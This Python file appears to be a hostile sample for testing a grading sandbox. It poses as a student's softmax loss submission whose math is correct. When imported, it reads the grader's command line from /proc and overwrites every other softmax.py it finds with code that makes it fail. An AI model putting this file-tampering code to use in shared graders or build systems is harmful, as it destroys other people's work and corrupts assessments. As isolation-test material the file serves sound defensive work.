"""Hostile: at import, overwrites every classmate's softmax.py it can find (the submissions named on
the grader's command line) with code that fails. Its own functions are right."""
import os

import numpy as np

BROKEN = "raise SystemExit('altered by a classmate')\n"


def _alter():
    try:
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as f:
            args = [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return
    for arg in args:
        for root, _, files in os.walk(arg) if os.path.isdir(arg) else ():
            for name in files:
                path = os.path.join(root, name)
                try:
                    if name == "softmax.py" and "Hostile" not in open(path).read(200):
                        with open(path, "w") as f:
                            f.write(BROKEN)
                except OSError:
                    pass


_alter()


def softmax_loss_naive(W, X, y, reg):
    n = X.shape[0]
    loss, dW = 0.0, np.zeros_like(W)
    for i in range(n):
        s = X[i] @ W
        p = np.exp(s - s.max())
        p /= p.sum()
        loss -= np.log(p[y[i]])
        p[y[i]] -= 1
        dW += np.outer(X[i], p)
    return loss / n + reg * np.sum(W * W), dW / n + 2 * reg * W
